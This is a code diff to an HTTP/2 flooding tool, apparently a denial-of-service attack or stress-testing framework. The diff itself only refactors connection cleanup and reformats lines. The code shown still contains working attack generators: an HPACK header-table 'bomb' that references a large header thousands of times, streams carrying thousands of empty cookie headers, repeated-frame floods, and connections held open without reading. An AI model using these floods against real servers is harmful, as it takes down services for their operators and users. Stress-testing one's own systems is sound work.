@@ -4,7 +4,7 @@ import asyncio
 import struct
 from collections.abc import Awaitable, Callable, Iterable, Iterator
 
-from attacks.floods import DEAF, PATIENCE_SECONDS, READ_BYTES_MAX, Progress, repeat, scaled
+from attacks.floods import DEAF, PATIENCE_SECONDS, READ_BYTES_MAX, Progress, close_all, repeat, scaled
 from core import http2
 from core.attack import Need
 from core.scene import Scene
@@ -56,16 +56,21 @@ def deaf(frames: Callable[[Scene, bytes], Iterable[bytes]]) -> Flood:
             progress.under_way.set()
             await asyncio.Event().wait()
         finally:
-            for connection in opened:
-                await connection.__aexit__()
+            await close_all(opened)
 
     return flood
 
 
-def _heads(scene: Scene, scheme: bytes, *, path: bytes | None = None, end: bool = True, count: int = STREAMS) -> Iterator[bytes]:
+def _heads(
+    scene: Scene, scheme: bytes, *, path: bytes | None = None, end: bool = True, count: int = STREAMS
+) -> Iterator[bytes]:
     for number in range(count):
-        pseudo = [(b":method", b"GET" if end else b"POST"), (b":scheme", scheme), (b":authority", scene.target.host),
-                  (b":path", path or scene.target.path)]  # fmt: skip
+        pseudo = [
+            (b":method", b"GET" if end else b"POST"),
+            (b":scheme", scheme),
+            (b":authority", scene.target.host),
+            (b":path", path or scene.target.path),
+        ]
         yield http2.headers(pseudo, 1 + 2 * number, end=end)
 
 
@@ -96,8 +101,9 @@ def _continuations(size: int) -> Callable[[Scene, bytes], Iterator[bytes]]:
 
 def _bomb(scene: Scene, scheme: bytes) -> Iterator[bytes]:
     """A large header goes into the table once, and is named by a byte thousands of times."""
-    pseudo = http2.block([(b":method", b"GET"), (b":scheme", scheme), (b":authority", scene.target.host),
-                          (b":path", scene.target.path)])  # fmt: skip
+    pseudo = http2.block(
+        [(b":method", b"GET"), (b":scheme", scheme), (b":authority", scene.target.host), (b":path", scene.target.path)]
+    )
     large = b"\x40" + http2.block([(b"x", b"y" * 3900)])[1:]
     for number in range(50):
         block = pseudo + (large if number == 0 else b"") + b"\xbe" * 12_000
@@ -111,7 +117,9 @@ def _cookies(scene: Scene, scheme: bytes) -> Iterator[bytes]:
         yield http2.headers(pseudo + [(b"cookie", b"")] * 6000, 1 + 2 * number)
 
 
-def _frames(kind: int, flags: int, stream: int, payload: bytes, count: int = FRAMES) -> Callable[[Scene, bytes], Iterator[bytes]]:
+def _frames(
+    kind: int, flags: int, stream: int, payload: bytes, count: int = FRAMES
+) -> Callable[[Scene, bytes], Iterator[bytes]]:
     def frames(_scene: Scene, _scheme: bytes) -> Iterator[bytes]:
         return iter([http2.frame(kind, flags, stream, payload)] * count)
 
